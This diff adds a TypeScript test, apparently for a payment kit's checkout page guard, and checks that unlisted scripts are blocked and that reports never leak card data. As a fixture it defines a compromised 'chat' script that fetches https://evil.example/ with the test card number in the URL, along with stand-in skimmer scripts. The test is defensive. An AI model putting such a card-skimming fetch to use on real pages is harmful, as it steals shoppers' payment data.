@@ -1,0 +1,97 @@
+// The page guard in a browser: what the inventory does not list does not run, and the shop hears of it.
+import { createHash } from 'node:crypto';
+import { readFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { fileURLToPath } from 'node:url';
+import { createEximpeKit, createPageGuard, type PaymentEvent } from '@eximpe/server-kit';
+import { SIMULATOR_CREDENTIALS } from '@eximpe/simulator';
+import { VISA_DEBIT } from '../cards.ts';
+import { CHECKOUT } from '../corpus/hand-over.ts';
+import { expect, test } from '../shop.ts';
+
+const INTEGRITY = JSON.parse(
+  readFileSync(fileURLToPath(import.meta.resolve('@eximpe/card-form/integrity.json')), 'utf8'),
+) as Record<string, string>;
+
+/** Listed, and it sends away what it can all the same: its maker was broken into before the shop listed it. */
+const CHAT = `fetch('https://evil.example/${VISA_DEBIT.number}?n=${VISA_DEBIT.number}').catch(() => { window.chat = 'stopped'; });`;
+const SKIMMER = 'window.skimmer = true;';
+const hash = (script: string): string => `sha384-${createHash('sha384').update(script).digest('base64')}`;
+
+const PAGE = `<!doctype html><html lang="hi"><title>Checkout</title>
+  <script type="module" src="/eximpe/card-form.js" integrity="${INTEGRITY['card-form.js']}"></script>
+  <script src="/chat.js" integrity="${hash(CHAT)}"></script>
+  <script src="/uploads/skimmer.js"></script>
+  <script>${SKIMMER}</script>
+  <eximpe-card-form endpoint="/eximpe" checkout="ORDER-1"></eximpe-card-form>`;
+
+test('a script that is not listed does not run, the form does; the shop is told of each, and never of the card', async ({
+  page,
+  shop,
+}) => {
+  const server = createServer();
+  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
+  const origin = `http://localhost:${(server.address() as AddressInfo).port}`;
+  const told: PaymentEvent[] = [];
+  const kit = createEximpeKit({
+    ...SIMULATOR_CREDENTIALS,
+    environment: 'sandbox',
+    baseUrl: shop.simulator.url,
+    publicUrl: origin,
+    secret: 'a-secret-that-only-this-journey-uses-01',
+    unsafeAllowHttp: true,
+    log: { info() {}, warn() {}, error() {} },
+    resolveCheckout: () => ({ ...CHECKOUT, invoice: { number: 'INV-1' } }),
+    onPaid: () => {},
+    onEvent: (event) => void told.push(event),
+  });
+  const guard = createPageGuard({
+    origin,
+    inventory: {
+      scripts: [
+        ...Object.entries(INTEGRITY).map(([file, integrity]) => ({
+          source: `/eximpe/${file}`,
+          why: 'the card form',
+          integrity,
+          later: file !== 'card-form.js',
+        })),
+        { source: '/chat.js', why: 'shoppers ask us', integrity: hash(CHAT) },
+      ],
+    },
+  });
+  const scripts: Readonly<Record<string, string>> = { '/chat.js': CHAT, '/uploads/skimmer.js': SKIMMER };
+  server.on('request', (request, response) => {
+    const { url = '/' } = request;
+    if (url.startsWith('/eximpe/')) return kit.router(request, response);
+    guard.middleware(request, response);
+    const script = scripts[url];
+    response.setHeader('content-type', script ? 'text/javascript' : 'text/html; charset=utf-8');
+    response.end(script ?? PAGE);
+  });
+
+  await page.goto(`${origin}/checkout?session=of-a-shopper`);
+  // The form is there, in a language that it loaded from beside itself: no part of it is blocked.
+  await expect(page.getByLabel('कार्ड नंबर')).toBeVisible();
+  await expect.poll(() => page.evaluate('window.chat')).toBe('stopped');
+  expect(await page.evaluate('window.skimmer')).toBeUndefined();
+
+  const blocked = (): string[] =>
+    told.flatMap((event) =>
+      event.type === 'page.blocked' ? [`${event.directive} ${event.blocked} on ${event.page ?? ''}`] : [],
+    );
+  await expect
+    .poll(() => new Set(blocked()))
+    .toEqual(
+      new Set([
+        'connect-src evil.example on localhost',
+        'script-src-elem inline on localhost',
+        'script-src-elem localhost on localhost',
+      ]),
+    );
+  expect(JSON.stringify(told)).not.toMatch(new RegExp(`${VISA_DEBIT.number}|session|skimmer`));
+
+  await kit.close();
+  server.closeAllConnections();
+  await new Promise((resolve) => server.close(resolve));
+});
